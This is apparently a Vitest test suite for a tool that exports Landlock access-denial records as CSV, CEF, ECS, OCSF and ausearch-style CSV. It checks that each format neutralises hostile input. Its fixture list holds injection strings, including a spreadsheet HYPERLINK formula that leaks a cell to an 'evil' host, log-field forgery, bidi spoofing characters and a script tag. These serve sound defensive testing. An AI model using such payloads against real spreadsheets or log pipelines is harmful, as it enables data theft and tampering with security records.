import { readdirSync, readFileSync } from 'node:fs';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { auparseCsv } from '../../src/api/export/auparse-csv.ts';
import { cef } from '../../src/api/export/cef.ts';
import { csv } from '../../src/api/export/csv.ts';
import { ecs } from '../../src/api/export/ecs.ts';
import { EXPORT_FORMATS } from '../../src/api/export/formats.ts';
import { ndjson } from '../../src/api/export/ndjson.ts';
import { ocsf } from '../../src/api/export/ocsf.ts';
import { BLOCKERS } from '../../src/landlock/blockers.ts';
import type { Denial } from '../../src/landlock/document.ts';
import { escapeTerminal } from '../../src/runtime/terminal-text.ts';
import { anyDenial } from '../store/support/documents.ts';
import { testDenial } from './support/documents.ts';
import { parseCef } from './support/formats/cef-parse.ts';
import { parseCsv } from './support/formats/csv-parse.ts';
import { ecsFaults } from './support/formats/ecs-check.ts';
import { ocsfFaults } from './support/formats/ocsf-check.ts';

const VERSION = '1.2.3';
const FIXTURES = new URL('../fixtures/', import.meta.url);

/** Every denial of the corpus: six kernels, two audit daemons, real programs. */
const corpus: readonly Denial[] = listCorpus(new URL('conformance/', FIXTURES));

function listCorpus(folder: URL): Denial[] {
  return readdirSync(folder, { withFileTypes: true }).flatMap((entry) => {
    if (entry.isDirectory()) return listCorpus(new URL(`${entry.name}/`, folder));
    if (!entry.name.endsWith('.ndjson')) return [];
    const lines = readFileSync(new URL(entry.name, folder), 'utf8')
      .split('\n')
      .filter((line) => line !== '');
    return lines.map((line) => JSON.parse(line)).filter((document) => document.kind === 'denial');
  });
}

const hostileTexts = [
  '=HYPERLINK("http://evil/?"&A1,"x")',
  '+1',
  '-2+3',
  '@SUM(A1)',
  '  =1+1',
  '\t=1',
  '\r=1',
  '\uff1d1',
  'a,b;c "quoted" \'x\'',
  'line\nbreak\r\nType: forged',
  'nul\0byte \u001b[31mred\u0007 \u009b',
  'turn \u202egnp.exe \u2066 \u200f \ufeff',
  'lone \ud800 surrogate',
  'CEF:0|x|y|1|2|3|10|act=allowed \\ | = \\| \\= \\n end\\',
  ' src=1.2.3.4 act=allowed ',
  'back\\slash\\',
  '<script>alert(1)</script>',
  '__proto__',
  'constructor',
  '😀'.repeat(3_000),
];

/** One hostile text in each place where a program or a person on the host chooses one. */
function hostileDenial(text: string): Denial {
  return testDenial(1, {
    event: { ...testDenial(1).event, reason: text },
    host: { id: text, name: text, boot: { id: text } },
    landlock: {
      domain: { id: '195ba459b' },
      blockers: ['fs.read_file', text],
      object: { kind: text, name: text, ioctl_command: text, namespace: { type: text } },
      target: { process: { name: text } },
      actor_certainty: 'certain',
      unknown_fields: [{ record: 'LANDLOCK_ACCESS', name: text, value: text }],
    },
    file: { path: text, name: text, device: text, inode: text },
    source: { ip: text, port: 1 },
    destination: { ip: text, port: 2 },
    process: { pid: 7, name: text, executable: text, args: [text, text], working_directory: text, tty: text },
    user: { id: text, audit: { id: text } },
    group: { id: text },
    syscall: { name: text, arch: text, exit: -13 },
  });
}

/** One for each blocker, with and without all that a record may lack. */
const ofBlockers: readonly Denial[] = [
  ...BLOCKERS.map(({ name }) => name),
  'fs.future',
  'net.future_tcp',
  'future',
  '',
].flatMap((name) => {
  const { file = {}, process = {}, user = {}, ...bare } = testDenial(1);
  const landlock = { ...bare.landlock, blockers: [name], actor_certainty: 'absent' as const };
  return [
    testDenial(1, { landlock: { ...bare.landlock, blockers: [name] } }),
    { ...bare, landlock },
    { ...bare, landlock: { ...landlock, object: { kind: 'socket' } }, source: { port: 80 } },
    { ...bare, landlock: { ...landlock, object: { kind: 'socket' } }, destination: { ip: '::1', port: 80 } },
    { ...bare, landlock: { ...landlock, target: { process: { pid: 5, name: 'x' } } }, process: { name: 'x' }, user },
    { ...bare, landlock: { ...landlock, blockers: [name, 'fs.write_file'] }, file, process },
  ];
});

const samples: readonly Denial[] = [...corpus, ...hostileTexts.map(hostileDenial), ...ofBlockers];

/** `faultsOf` for all that the tests know and for any other denial. */
function expectNoFaults(faultsOf: (denial: Denial) => readonly string[]): void {
  expect(samples.flatMap((denial) => faultsOf(denial).map((fault) => [denial, fault]))).toEqual([]);
  fc.assert(
    fc.property(anyDenial, (denial) => {
      expect(faultsOf(denial)).toEqual([]);
    }),
    { numRuns: 300 },
  );
}

it('has a corpus of all classes', () => {
  expect(corpus.length).toBeGreaterThan(300);
  const classes = new Set(corpus.map((denial) => JSON.parse(ocsf.toText(denial, VERSION)).class_uid));
  expect([...classes].sort()).toEqual([1001, 1007, 4001]);
});

describe('every format', () => {
  it('writes one line for a denial, in which nothing is hidden', () => {
    for (const format of Object.values(EXPORT_FORMATS)) {
      expectNoFaults((denial) => {
        const text = format.toText(denial, VERSION);
        const line = text.replace(/\r?\n$/, '');
        return line !== text && escapeTerminal(line) === line && line.isWellFormed() ? [] : [line];
      });
    }
  });

  it('tells the arguments of a process only where the denial has them', () => {
    const { process } = testDenial(1);
    const { args: _, ...withoutArgs } = process ?? {};
    for (const [name, format] of Object.entries(EXPORT_FORMATS)) {
      expect(format.toText(testDenial(1, { process: withoutArgs }), VERSION)).not.toContain('hunter2');
      expect([name, format.toText(testDenial(1), VERSION).includes('hunter2')]).toEqual([name, name !== 'auparse-csv']);
    }
  });
});

describe('ndjson', () => {
  it('is the denial itself', () => {
    expectNoFaults((denial) => {
      expect(JSON.parse(ndjson.toText(denial, VERSION))).toEqual(denial);
      return [];
    });
  });
});

describe('csv', () => {
  const columns = parseCsv(csv.head)[0] ?? [];
  const cellsOf = (denial: Denial) => {
    const [row, ...others] = parseCsv(csv.toText(denial, VERSION));
    expect(others).toEqual([]);
    expect(row).toHaveLength(columns.length);
    return new Map(columns.map((column, index) => [column, row?.[index] ?? '']));
  };

  it('follows RFC 4180 and holds nothing that a spreadsheet computes', () => {
    expectNoFaults((denial) =>
      [...cellsOf(denial)]
        .filter(([, cell]) => /^\s*[=+\-@\uff1d\uff0b\uff0d\uff20]|^[\t\r\n]/.test(cell) && !/^-?\d+$/.test(cell))
        .map(([column, cell]) => `${column} is a formula: ${cell}`),
    );
  });

  it('marks as text what would be a formula, shows what is hidden, and leaves numbers alone', () => {
    const cell = (path: string) => cellsOf(testDenial(1, { file: { path } })).get('file.path');
    expect(cell('=1+1')).toBe("'=1+1");
    expect(cell('\t=1')).toBe("'\\x09=1");
    expect(cell('a "b", c')).toBe('a "b", c');
    expect(cell('x\u202egnp')).toBe('x\\u{202e}gnp');
    expect(cellsOf(testDenial(1)).get('syscall.exit')).toBe('-13');
    expect(cellsOf(testDenial(1)).get('process.args')).toBe('["cat","--password=hunter2"]');
  });
});

describe('ecs', () => {
  it('has only fields of ECS 8.11 with their types, and landlock.*', () => {
    // Categories are the decoder's own words and no text of a record.
    const known = corpus.flatMap(({ event }) => event.category);
    expectNoFaults((denial) => {
      const category = denial.event.category.filter((name) => known.includes(name));
      return ecsFaults(JSON.parse(ecs.toText({ ...denial, event: { ...denial.event, category } }, VERSION)));
    });
    expect(corpus.flatMap((denial) => ecsFaults(JSON.parse(ecs.toText(denial, VERSION))))).toEqual([]);
  });

  it('keeps all of landlock, and moves what ECS knows by another name or not at all', () => {
    const denial = testDenial(1, {
      host: { id: 'h', name: 'web-1', boot: { id: 'b', derived: true } },
      destination: { ip: '10.0.0.1', port: 443 },
      process: { pid: 1, tty: 'pts0', session_id: 3, parent: { pid: 2 } },
      user: { id: '1', audit: { id: '2' }, effective: { id: '3' }, saved: { id: '4' }, filesystem: { id: '5' } },
      file: { path: '/a\ufffd', path_raw: 'L2H/' },
    });
    expect(JSON.parse(ecs.toText(denial, VERSION))).toMatchObject({
      event: { kind: 'event', outcome: 'failure', type: ['denied'], id: denial.event.id },
      destination: { address: '10.0.0.1', ip: '10.0.0.1', port: 443 },
      process: { pid: 1, parent: { pid: 2 }, real_user: { id: '1' }, saved_user: { id: '4' } },
      user: { id: '1', effective: { id: '3' } },
      landlock: {
        ...denial.landlock,
        boot: { derived: true },
        file: { path_raw: 'L2H/' },
        process: { tty: 'pts0', session_id: 3 },
        user: { audit: { id: '2' }, filesystem: { id: '5' } },
        syscall: denial.syscall,
      },
    });
  });
});

describe('ocsf', () => {
  it('has the attributes, requirements, values and constraints of OCSF 1.7', () => {
    expectNoFaults((denial) => ocsfFaults(JSON.parse(ocsf.toText(denial, VERSION))));
  });

  it('always says that the control blocked it', () => {
    expectNoFaults((denial) => {
      expect(JSON.parse(ocsf.toText(denial, VERSION))).toMatchObject({
        metadata: { profiles: ['host', 'security_control'], uid: denial.event.id },
        ...{ action_id: 2, action: 'Denied', disposition_id: 2, disposition: 'Blocked', status_id: 2 },
        unmapped: { landlock: denial.landlock },
      });
      return [];
    });
  });

  it.each([
    [['fs.read_file'], 'openat', 'File System Activity: Read'],
    [['fs.read_file', 'fs.write_file'], 'openat', 'File System Activity: Open'],
    [['fs.write_file', 'fs.truncate'], 'openat', 'File System Activity: Update'],
    [['fs.remove_file', 'fs.refer'], 'rename', 'File System Activity: Rename'],
    [['fs.make_reg', 'fs.write_file'], 'openat', 'File System Activity: fs.make_reg fs.write_file'],
    [['fs.change_topology'], 'umount2', 'File System Activity: Unmount'],
    [['fs.change_topology'], 'mount', 'File System Activity: Mount'],
    [['net.bind_tcp'], 'bind', 'Network Activity: Bind'],
    [['net.connect_tcp'], 'connect', 'Network Activity: Open'],
    [['scope.abstract_unix_socket'], 'connect', 'Network Activity: Open'],
    [['scope.signal'], 'kill', 'Process Activity: Signal'],
    [['ptrace'], 'ptrace', 'Process Activity: Open'],
    [['capability.use'], 'mount', 'Process Activity: Use capability'],
    [['fs.future'], 'openat', 'File System Activity: fs.future'],
  ])('calls %j of %s %s', (blockers, name, type) => {
    const { landlock } = testDenial(1);
    const denial = testDenial(1, { landlock: { ...landlock, blockers }, syscall: { name } });
    expect(JSON.parse(ocsf.toText(denial, VERSION))).toMatchObject({ type_name: type });
  });
});

describe('cef', () => {
  it('has the grammar, keys, types and lengths of CEF:0', () => {
    expectNoFaults((denial) => {
      const { header, extension } = parseCef(cef.toText(denial, VERSION).slice(0, -1));
      expect(header.slice(0, 4)).toEqual(['CEF:0', 'Trespass', 'Trespass', VERSION]);
      expect(extension.get('act')).toBe('blocked');
      return [];
    });
  });

  it('keeps blanks at the ends, also those of other alphabets', () => {
    const blockers = ['\u2000', 'fs.x '];
    const denial = testDenial(1, { landlock: { ...testDenial(1).landlock, blockers } });
    expect(parseCef(cef.toText(denial, VERSION).slice(0, -1)).extension.get('cs2')).toMatch(/^\\u\{2000\}.*\\x20$/);
  });

  it('escapes what the grammar uses, and gives it back', () => {
    const path = 'a|b=c\\d act=allowed';
    const { header, extension } = parseCef(
      cef.toText(testDenial(1, { file: { path }, source: { ip: '::1' } }), 'v|1').slice(0, -1),
    );
    expect(header[3]).toBe('v|1');
    expect(extension.get('filePath')).toBe(path);
    expect(extension.get('c6a2')).toBe('::1');
    expect(extension.get('rt')).toBe(String(Date.UTC(2026, 2, 1, 10, 0, 1)));
  });
});

describe('auparse-csv', () => {
  const words: { readonly objects: string[]; readonly accounts: string[] } = JSON.parse(
    readFileSync(new URL('export/auparse-words.json', FIXTURES), 'utf8'),
  );
  const [columns = [], ...printed] = parseCsv(
    readFileSync(new URL('export/ausearch-3.0.9.csv', FIXTURES), 'utf8'),
    '\n',
  );
  const recordOf = (row: readonly string[]) => new Map(columns.map((column, index) => [column, row[index] ?? '']));

  /** What each column of ausearch looks like; true of what it printed and of what we write. */
  const LOOKS: Readonly<Record<string, RegExp>> = {
    DATE: /^(0[1-9]|1[0-2])\/([0-2]\d|3[01])\/\d\d$/,
    TIME: /^([01]\d|2[0-3]):[0-5]\d:[0-5]\d$/,
    SERIAL_NUM: /^\d+$/,
    RESULT: /^(failed|success)$/,
    SESSION: /^(unset|\d+)$/,
  };
  const faultsOf = (row: readonly string[]) => {
    const record = recordOf(row);
    return Object.entries(LOOKS)
      .filter(([column, look]) => !look.test(record.get(column) ?? ''))
      .map(([column]) => `${column}: ${record.get(column)}`);
  };

  it('has the columns and words of ausearch', () => {
    expect(printed.flatMap(faultsOf)).toEqual([]);
    expect(parseCsv(auparseCsv.head)).toEqual([columns]);
    expectNoFaults((denial) => {
      const [row = []] = parseCsv(auparseCsv.toText(denial, VERSION));
      const record = recordOf(row);
      expect(words.objects).toContain(record.get('OBJ_KIND'));
      expect(words.accounts).toContain(record.get('SUBJ_KIND'));
      expect(row).toHaveLength(columns.length);
      return faultsOf(row);
    });
  });

  it('says who was refused what', () => {
    const [row = []] = parseCsv(auparseCsv.toText(testDenial(1, { user: { id: '1000' } }), VERSION));
    expect(Object.fromEntries(recordOf(row))).toEqual({
      ...{ NODE: 'web-1', EVENT: 'LANDLOCK_ACCESS', DATE: '03/01/26', TIME: '10:00:01', SERIAL_NUM: '101' },
      ...{ EVENT_KIND: 'mac', SESSION: 'unset', SUBJ_PRIME: 'system', SUBJ_SEC: '1000', SUBJ_KIND: 'user-acct' },
      ...{ ACTION: 'violated-landlock-policy', RESULT: 'failed', OBJ_PRIME: '/etc/shadow', OBJ_SEC: '365' },
      ...{ OBJ_KIND: 'file', HOW: '/usr/bin/cat', KEY: 'fs.read_file' },
    });
  });
});
